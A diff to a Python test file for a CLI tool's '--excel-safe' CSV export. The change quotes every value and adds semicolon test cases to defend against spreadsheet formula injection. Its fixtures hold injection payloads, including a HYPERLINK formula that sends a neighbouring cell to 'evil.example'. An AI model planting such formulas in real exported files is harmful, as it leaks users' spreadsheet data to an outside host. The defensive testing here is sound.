@@ -3,6 +3,8 @@ spreadsheet would run as a formula; without it, CSV is the W3C format, value for
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
 import subprocess
 import sys
@@ -57,17 +59,18 @@ W3C_CSV = (
     'http://ex/8,"a=b, -c",\uff1d1+1\r\n'
 )
 #: The same answer for a spreadsheet: a ' before each text a spreadsheet would run, the
-#: numbers (typed xsd:integer, decimal, double) as they are.
+#: numbers (typed xsd:integer, decimal, double) as they are, each value between double
+#: quotes (so that a spreadsheet splitting at ";" keeps a value whole).
 EXCEL_SAFE_CSV = (
-    BOM + "s,l,n\r\n"
-    'http://ex/1,"\'=HYPERLINK(""http://evil.example/""&A1,""x"")",-3\r\n'
-    "http://ex/2,'+86 27 1234,-2.5\r\n"
-    "http://ex/3,'-3,-1500\r\n"
-    "http://ex/4,'@SUM(1+1),'-INF\r\n"
-    "http://ex/5,'\t=1+1,'-0044-03-15\r\n"
-    'http://ex/6,"\'\r=1+1",7\r\n'
-    'http://ex/7,"\'\n=1+1",0\r\n'
-    'http://ex/8,"a=b, -c",\'\uff1d1+1\r\n'
+    BOM + '"s","l","n"\r\n'
+    '"http://ex/1","\'=HYPERLINK(""http://evil.example/""&A1,""x"")","-3"\r\n'
+    '"http://ex/2","\'+86 27 1234","-2.5"\r\n'
+    '"http://ex/3","\'-3","-1500"\r\n'
+    '"http://ex/4","\'@SUM(1+1)","\'-INF"\r\n'
+    '"http://ex/5","\'\t=1+1","\'-0044-03-15"\r\n'
+    '"http://ex/6","\'\r=1+1","7"\r\n'
+    '"http://ex/7","\'\n=1+1","0"\r\n'
+    '"http://ex/8","a=b, -c","\'\uff1d1+1"\r\n'
 )
 
 
@@ -183,7 +186,7 @@ def test_listing_the_queries_takes_excel_safe_as_csv_only(
     result = runner.invoke(app, ["query", "--list", "--excel-safe", *options])
     if not refused:
         assert result.exit_code == 0, result.output
-        header = BOM + "query,question,questionZh,parameters\r\n"
+        header = BOM + '"query","question","questionZh","parameters"\r\n'
         assert result.stdout_bytes.startswith(header.encode("utf-8"))
         return
     assert result.exit_code == 2, result.output
@@ -232,9 +235,9 @@ def test_excel_safe_quotes_every_formula_start_but_a_number_of_an_xsd_number_typ
     assert excel_safe_text(term) == expected
 
 
-def test_excel_safe_leaves_the_header_and_an_ask_answer_as_they_are() -> None:
+def test_excel_safe_leaves_the_header_and_an_ask_answer_as_they_are_between_quotes() -> None:
     assert format_csv(QueryResult(variables=[], boolean=False), excel_safe=True) == (
-        BOM + "boolean\r\nfalse\r\n"
+        BOM + '"boolean"\r\n"false"\r\n'
     ).encode("utf-8")
 
 
@@ -304,12 +307,16 @@ def test_links_and_network_csv_quote_a_formula_label_with_excel_safe_only(
     safe = runner.invoke(app, [*base, "--excel-safe"])
     assert plain.exit_code == 0, plain.output
     assert safe.exit_code == 0, safe.output
-    plain_csv = safe_expected = plain.stdout_bytes.decode("utf-8")
+    plain_csv = plain.stdout_bytes.decode("utf-8")
     shown = [f for f in FORMULA_LABELS.values() if f",{f}" in plain_csv]  # W3C: as it is
     assert shown, "no formula label in the answer"
-    for formula in shown:
-        safe_expected = safe_expected.replace(f",{formula}", f",'{formula}")
-    assert safe.stdout_bytes.decode("utf-8") == safe_expected
+    rows = [
+        [f"'{value}" if value in shown else value for value in row]
+        for row in csv.reader(io.StringIO(plain_csv.removeprefix(BOM), newline=""))
+    ]
+    safe_expected = io.StringIO()
+    csv.writer(safe_expected, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
+    assert safe.stdout_bytes.decode("utf-8") == BOM + safe_expected.getvalue()
 
 
 @pytest.mark.parametrize("command", [["links"], ["network"]])
@@ -329,3 +336,49 @@ def test_links_and_network_refuse_excel_safe_for_another_format_before_any_work(
     assert f"--excel-safe applies to CSV, for a spreadsheet; {said}" in result.stderr
     assert "give -f csv, or leave out --excel-safe" in result.stderr
     assert not (tmp_path / "net").exists()
+
+
+#: Labels with a ";": a spreadsheet that splits a line at ";" (Excel in some locales,
+#: LibreOffice when asked to) would make a cell of "=1+1" unless the value is quoted whole.
+SEMICOLONS = """\
+<http://ex/1> <http://ex/says> "a;=1+1;" .
+<http://ex/2> <http://ex/says> ";=1+1;" .
+<http://ex/3> <http://ex/says> "\\";=1+1;" .
+<http://ex/4> <http://ex/says> "a\\";=1+1;"@zh .
+<http://ex/5> <http://ex/says> "\\"a" .
+<http://ex/a;=1+1> <http://ex/says> "x" .
+"""
+SEMICOLON_QUERY = "SELECT ?s ?l WHERE { ?s <http://ex/says> ?l } ORDER BY ?s"
+
+
+def test_excel_safe_puts_each_value_between_quotes_so_a_semicolon_does_not_split_it(
+    tmp_path: Path,
+) -> None:
+    """Each value between double quotes, as OWASP advises: LibreOffice, splitting at ";",
+    keeps the line one cell; a value that begins with ";" (or a quote, and has a ";") gets
+    a ' so that its opening quote does not end the quoted text. W3C CSV is unchanged."""
+    graph = tmp_path / "semicolons.nt"
+    graph.write_text(SEMICOLONS, encoding="utf-8")
+    base = ["query", SEMICOLON_QUERY, "--graph", str(graph), "-f", "csv"]
+    plain = runner.invoke(app, base)
+    assert plain.exit_code == 0, plain.output
+    assert plain.stdout_bytes.decode("utf-8") == (
+        BOM + "s,l\r\n"
+        "http://ex/1,a;=1+1;\r\n"
+        "http://ex/2,;=1+1;\r\n"
+        'http://ex/3,""";=1+1;"\r\n'
+        'http://ex/4,"a"";=1+1;"\r\n'
+        'http://ex/5,"""a"\r\n'
+        "http://ex/a;=1+1,x\r\n"
+    )
+    safe = runner.invoke(app, [*base, "--excel-safe"])
+    assert safe.exit_code == 0, safe.output
+    assert safe.stdout_bytes.decode("utf-8") == (
+        BOM + '"s","l"\r\n'
+        '"http://ex/1","a;=1+1;"\r\n'
+        '"http://ex/2","\';=1+1;"\r\n'
+        '"http://ex/3","\'"";=1+1;"\r\n'
+        '"http://ex/4","a"";=1+1;"\r\n'
+        '"http://ex/5","""a"\r\n'
+        '"http://ex/a;=1+1","x"\r\n'
+    )
